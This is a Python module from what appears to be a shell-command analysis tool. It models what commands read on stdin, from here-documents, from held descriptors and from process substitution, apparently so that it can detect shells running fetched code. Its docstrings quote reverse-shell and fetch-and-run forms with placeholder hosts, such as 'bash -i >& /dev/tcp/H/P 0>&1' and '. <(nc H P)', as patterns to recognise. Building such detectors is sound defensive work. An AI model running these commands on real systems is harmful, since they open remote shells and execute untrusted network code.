"""What a command reads on its standard input, and what the builtins that read or print set: here-documents and
here-strings, descriptors `exec` holds for a later `<&N`, the script a process substitution of literal text
prints, `printf -v` and `read <<<` of text the line shows. Used by hookd.enrich.shell.build."""

from __future__ import annotations

import re
import shlex

from hookd.enrich.shell.decoders import decoded
from hookd.enrich.shell.expand import _echo_output
from hookd.enrich.shell.runners import XARGS_INPUT, printed, runs_stdin
from hookd.enrich.shell.tree import _Redir
from hookd.enrich.shell.words import LITERAL_MARK, _dynamic, elements_key
from hookd.enrich.shell.wrappers import _SHELLS


def reads_code(name: str, argv: list[str]) -> bool:
    """A shell or interpreter that runs what comes on its stdin."""
    if runs_stdin(name, argv, _SHELLS):
        return True
    interpreter = name in _STDIN_INTERPRETERS or name.startswith(("python", "pypy"))
    return interpreter and not any(not a.startswith("-") or a in ("-c", "-e", "-m", "-E", "-r") for a in argv[1:])


NAME = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")

_STDIN_INTERPRETERS = frozenset(
    {"perl", "ruby", "node", "nodejs", "php", "lua", "tclsh", "bun", "deno", "Rscript", "osascript"}
)


def duplicated(redirects: list[_Redir], texts: list[str]) -> str | None:
    """The text a descriptor duplicated onto stdin holds (`bash <&3` after `exec 3<<<'…'`): what the line put
    on descriptors (their numbers are not kept: every such text)."""
    numbers = [r.target or "" for r in redirects if r.op == "<&"]
    if not texts or not any((n.isdigit() or n[:1] == "$") and n not in ("0", "1", "2") for n in numbers):
        return None
    return "\n".join(texts)


def held(redirects: list[_Redir]) -> list[str]:
    """What `exec`'s redirects put on descriptors for a later `<&N`: a here-string's or here-document's text, a
    file's as the script that sources it (`exec 3< x.sh`)."""
    texts = []
    for redirect in redirects:
        text = heredoc_text([redirect])
        if text is not None:
            texts.append(text)
        elif (sent := socket_text([redirect])) is not None:
            texts.append(sent)
        elif redirect.op == "<" and redirect.target and redirect.target.startswith("<("):
            texts.append(". " + redirect.target)  # `exec {fd}< <(…)`: what the substitution prints, sourced
        elif redirect.op == "<" and redirect.is_path and redirect.target:
            texts.append(". " + shlex.quote(redirect.target))
    return texts


_SOCKETS = ("/dev/tcp/", "/dev/udp/")  # bash(1), REDIRECTION: a connection the shell opens (effects/sends.py)


def socket_text(redirects: list[_Redir], duplex: bool = False) -> str | None:
    """What a command reads from a connection the shell opened on its stdin or a descriptor (`bash < /dev/tcp/H/P`,
    `exec 5<>/dev/tcp/H/P`): whatever H sends, as the script that sources it from the network (`. <(nc H P)`), so a
    shell reading it runs fetched code and a filter passes it on. `duplex`: a shell whose output goes there too
    (`bash -i >& /dev/tcp/H/P 0>&1`: its stdin is that descriptor duplicated)."""
    for redirect in redirects:
        if redirect.target and redirect.target.startswith(_SOCKETS) and ("<" in redirect.op or duplex):
            return ". <(nc " + " ".join(map(shlex.quote, redirect.target.split("/")[3:5])) + ")"
    return None


# A descriptor named as a file (https://mywiki.wooledge.org/FileDescriptor; proc(5)): `/dev/fd/N`, and the
# process's own `/proc/self/fd/N`, `/proc/$$/fd/N`; N a number or a variable holding one (`exec {fd}<…`)
_DESCRIPTOR_FILE = re.compile(
    r"/(?:dev/fd|proc/(?:self|thread-self|\$\$|\$\{?BASHPID\}?)/fd)/(?:[3-9]|\d{2,}|\$\{?\w+\}?)"
)


def descriptor_script(name: str, argv: list[str], texts: list[str]) -> str | None:
    """The script a shell runs (or `source` reads) from a descriptor named as a file (`bash /dev/fd/3`, `source
    /proc/self/fd/$fd`): what the line put on descriptors, as for `bash <&3` (duplicated)."""
    if not texts or name not in (*_SHELLS, "source", ".") or len(argv) < 2 or not _DESCRIPTOR_FILE.fullmatch(argv[1]):
        return None
    return "\n".join(texts) + "\n"


def substituted_script(name: str, argv: list[str], home: str) -> str | None:
    """The script a shell runs (or `source` reads) from a process substitution that prints literal text
    ("Process Substitution": `<(cmd)` is a file holding cmd's output), None when that text is not known."""
    if name not in (*_SHELLS, "source", ".") or len(argv) < 2:
        return None
    word = argv[1]
    if not (word.startswith("<(") and word.endswith(")")):
        return None
    text = _echo_output(word[2:-1], home, code=True)
    return None if text is None else text + "\n"


def set_at_run_time(name: str, argv: list[str]) -> list[str]:
    """The variables a builtin sets only as it runs, unknown from then on: `read x`, `mapfile a`, `printf -v x`,
    `wait -p x`, `unset x` (and `unset 'a[0]'`: the whole array), and `getopts SPEC x` with OPTARG."""
    named = [base for word in argv[1:] if NAME.match(base := word.split("[", 1)[0])]
    letter = _NAMING_OPTION.get(name, "")  # `printf -vc …`, `read -ra lines`: the name joined to its option
    for word in argv[1:] if letter else ():
        if word[:1] == "-" and 0 < (at := word.find(letter, 1)) < len(word) - 1:
            named.append(word[at + 1 :].split("[", 1)[0])
    return [*named, "OPTARG"] if name == "getopts" else named  # OPTIND: state.options_end


# The option of each builtin that names the variable it sets ("Bash Builtin Commands"): bash takes its value joined
# to it or in the next word, as getopt does
_NAMING_OPTION = {"printf": "v", "read": "a", "wait": "p"}


def listed_into(named: list[str]) -> dict[str, str]:
    """The variables `read`/`mapfile` fill from a listing (`find … | while read f`, `mapfile -t a < <(find …)`):
    each holds a name it listed, and so does each element of an array `mapfile` fills (`"${a[@]}"`)."""
    keys = [key for name in named for key in (name, name + "[@]", name + "[*]", elements_key(name + "[@]"))]
    return dict.fromkeys(keys, XARGS_INPUT)


def read_or_printed(
    name: str, argv: list[str], heredoc: str | None, literal: frozenset[str] = frozenset()
) -> list[tuple[str, str]]:
    """The variables `printf -v NAME FORMAT ARGS…` and `read [-r] NAME… <<< WORD` set, where the line shows the
    text ("Bash Builtin Commands", printf and read: the line read is split at blanks, the last name taking the
    rest; without -r a backslash escapes, which is not followed here). A text printed from words whose `$` are
    all quoted (`literal`) is quoted text, as `c='…'` assigns it (held_text.py)."""
    if name == "printf" and argv[1:2] == ["-v"] and len(argv) > 3 and NAME.match(argv[2]):
        text = printed(["printf", *argv[3:]], literal)  # (None where a word is built at run time)
        return [] if text is None else [(argv[2], LITERAL_MARK + text if _dynamic(text) else text)]
    if name != "read" or heredoc is None or _dynamic(heredoc):
        return []
    raw = argv[1:2] == ["-r"]
    names = argv[2:] if raw else argv[1:]
    if not names or not all(NAME.match(n) for n in names) or (not raw and "\\" in heredoc):
        return []
    line = heredoc.split("\n", 1)[0].strip(" \t")
    fields = line.split(None, len(names) - 1) if line else []
    return [(n, fields[k] if k < len(fields) else "") for k, n in enumerate(names)]


def heredoc_text(redirects: list[_Redir]) -> str | None:
    """The text a here-document or here-string gives the command on stdin."""
    for redirect in reversed(redirects):
        if redirect.op in ("<<", "<<-") and redirect.body is not None:
            return redirect.body
        if redirect.op == "<<<" and redirect.target is not None:
            return redirect.target + "\n"
    return None


SILENT = frozenset((":", "true", "false"))  # builtins that print nothing whatever their words


def printed_text(name: str, argv: list[str], literal: frozenset[str], stdin: str | None) -> str | None:
    """What the command prints, when the line tells: echo's and printf's text (`literal`: the words quoted on the
    line), nothing of `:`, `true`, `false` (a pipe they feed carries no text: `: | tee F` empties F), or a decoder's
    of the text on its standard input (decoders.py); else None."""
    if name in SILENT:
        return ""
    return printed(argv, literal) if name in ("echo", "printf") else decoded(name, argv, stdin)
